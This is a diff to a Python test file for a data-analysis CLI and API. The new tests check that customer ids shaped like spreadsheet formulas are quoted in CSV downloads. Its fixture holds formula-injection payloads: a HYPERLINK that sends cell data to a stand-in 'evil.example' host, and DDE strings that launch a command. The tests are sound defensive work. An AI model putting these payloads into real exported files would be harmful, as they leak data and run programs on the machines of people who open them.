@@ -1,17 +1,19 @@
 """Session 40's audit of inputs left open: label files (`run_analysis.py --kpis … --events`,
-`bench/bench_nab.py --nab`) and `gate.max_drop`. Before: NAB's combined_labels.json as --events
-was "[…][0]: expected [start, end]", one file's list of NAB windows "[0]: each event needs 'start'
-and 'end'", a KPI series or NAB's results file as --events and a labels CSV as --kpis said
-nothing of what they were; in bench_nab a labels file of the wrong kind was an AttributeError
-traceback or 41 exit-2 runs; a header-only labels CSV was scored silently and extra columns (a
-misspelt 'direction') were dropped silently; `max_drop: 5` (for 0.05) made every baseline
-comparison pass."""
+`bench/bench_nab.py --nab`), `gate.max_drop`, and customer ids that look like spreadsheet
+formulas. Before: NAB's combined_labels.json as --events was "[…][0]: expected [start, end]", one
+file's list of NAB windows "[0]: each event needs 'start' and 'end'", a KPI series or NAB's results
+file as --events and a labels CSV as --kpis said nothing of what they were; in bench_nab a labels
+file of the wrong kind was an AttributeError traceback or 41 exit-2 runs; a header-only labels
+CSV was scored silently and extra columns (a misspelt 'direction') were dropped silently;
+`max_drop: 5` (for 0.05) made every baseline comparison pass; '=HYPERLINK(…)' ids went unquoted
+into the action list downloads made for spreadsheets."""
 
 from __future__ import annotations
 
 import json
 import logging
 import sys
+from io import StringIO
 from pathlib import Path
 
 import numpy as np
@@ -19,6 +21,7 @@ import pandas as pd
 import pytest
 import yaml
 from tests.robustness.test_kpis_file_shapes import _bad  # exit 2, one line, nothing written
+from tests.robustness.txgen import transactions, write_csv
 
 from shocklab.cli import run_cli
 
@@ -217,3 +220,53 @@ def test_a_gate_flag_on_a_fraction_with_a_large_max_drop_is_refused(tmp_path, ca
                                 "--gate", "consensus.recall>=0.5", "--baseline", base)
     assert code == 2 and "gate.max_drop: 2" in err and "consensus.recall" in err, err
     assert len(err.splitlines()) == 1 and not (tmp_path / "out").exists()
+
+
+# --- customer ids like spreadsheet formulas ----------------------------------------------------
+
+EVIL = {12000: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        12001: "+cmd|' /C calc'!A0", 12002: "@SUM(1+1)*cmd|' /C calc'!A0",
+        12003: "-2+3+cmd|' /C calc'!A0", 12004: "-42"}
+
+
+def test_formula_like_ids_stay_as_read_in_the_run_and_are_quoted_in_downloads(cli, tmp_path):
+    """The run's customers/*.csv are data: ids as read (the key back to the store's records, and
+    between segments.csv and actions.csv for the API). The action list downloads are made for a
+    spreadsheet: there a formula-like id gets OWASP's single quote; a plain number (-42) not."""
+    import warnings
+
+    df = transactions()
+    df["Customer ID"] = df["Customer ID"].astype(int).map(lambda c: EVIL.get(c, str(c)))
+    tx = write_csv(df, tmp_path / "tx.csv")
+    r = cli("analysis", "--transactions", tx, "--out", tmp_path / "reports" / "tx")
+    assert r.returncode == 0, r.stderr[-800:]
+    assert "4 customer id(s) begin like a spreadsheet formula" in r.stdout + r.stderr
+    acts = pd.read_csv(tmp_path / "reports" / "tx" / "customers" / "actions.csv", dtype=str)
+    assert set(EVIL.values()) <= set(acts["customer_id"])
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        from fastapi.testclient import TestClient
+
+    from api.app import Settings, create_app
+
+    app = create_app(Settings(reports=tmp_path / "reports", runs=tmp_path / "runs"))
+    with TestClient(app) as client:
+        got = client.get("/runs/tx/customers/actions", params={"format": "csv"})
+        page = client.get("/runs/tx/customers/actions", params={"limit": 1000}).json()
+    ids = set(pd.read_csv(StringIO(got.text), dtype=str)["customer_id"])
+    assert {"'" + v for k, v in EVIL.items() if k != 12004} | {"-42"} <= ids
+    assert not any(i.startswith(("=", "+", "@")) for i in ids)
+    assert set(EVIL.values()) <= {i["customer_id"] for i in page["items"]}   # JSON: as read
+
+
+def test_neutralize_formulas_keeps_numbers_and_other_texts():
+    from shocklab.spreadsheet import neutralize_formulas
+
+    df = pd.DataFrame({"id": ["=1+1", "-42", "+3.5", "\t=1", "\rx", "a=b", None],
+                       "n": [-1, 2, 3, 4, 5, 6, 7]})
+    out = neutralize_formulas(df)
+    assert out["id"].tolist()[:6] == ["'=1+1", "-42", "+3.5", "'\t=1", "'\rx", "a=b"]
+    assert out["n"].tolist() == df["n"].tolist() and df["id"].iloc[0] == "=1+1"
+    clean = pd.DataFrame({"id": ["a", "-7"]})
+    assert neutralize_formulas(clean) is clean
